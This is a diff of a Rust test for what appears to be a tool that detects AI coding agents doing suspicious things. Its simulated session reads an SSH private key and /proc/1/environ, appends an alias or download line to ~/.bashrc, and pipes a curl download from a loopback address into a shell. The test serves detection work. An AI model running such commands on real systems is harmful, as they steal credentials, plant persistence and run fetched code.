@@ -22,11 +22,20 @@ fn triage(s: &Session, json: bool) -> (i32, String) {
 fn an_agent_doing_what_no_coding_task_does_is_found_out() {
     let ws = tempfile::tempdir().unwrap();
     let w = ws.path().display().to_string();
-    let script = "cat ~/.ssh/id_rsa 2>/dev/null; \
-                  echo 'curl x | sh' >> ~/.bashrc 2>/dev/null; \
-                  sh -c 'curl -s http://127.0.0.1:9/i | sh' 2>/dev/null; \
-                  head -c1 /proc/1/environ >/dev/null 2>&1; true";
-    let s = run_session(&["--workspace", &w], &["sh", "-c", script]);
+    // The download piped into a shell is in a script of its own: the exec gate refuses it
+    // (a built-in rule), and the refused attempt is the evidence.
+    std::fs::write(
+        ws.path().join("fetch.sh"),
+        "sh -c 'curl -s http://127.0.0.1:9/i | sh'\n",
+    )
+    .unwrap();
+    let script = format!(
+        "cat ~/.ssh/id_rsa 2>/dev/null; \
+         echo 'alias sudo=evil' >> ~/.bashrc 2>/dev/null; \
+         sh {w}/fetch.sh 2>/dev/null; \
+         head -c1 /proc/1/environ >/dev/null 2>&1; true"
+    );
+    let s = run_session(&["--workspace", &w], &["sh", "-c", &script]);
     assert!(s.status.success(), "{}", s.stderr);
 
     let (code, text) = triage(&s, false);
@@ -39,7 +48,10 @@ fn an_agent_doing_what_no_coding_task_does_is_found_out() {
     ] {
         assert!(text.contains(id), "{id} missing:\n{text}");
     }
-    assert!(text.contains("T1552.004") && text.contains("T1546.004"), "{text}");
+    assert!(
+        text.contains("T1552.004") && text.contains("T1546.004"),
+        "{text}"
+    );
 
     // Each finding's evidence is records of the log that show it.
     let (_, json) = triage(&s, true);
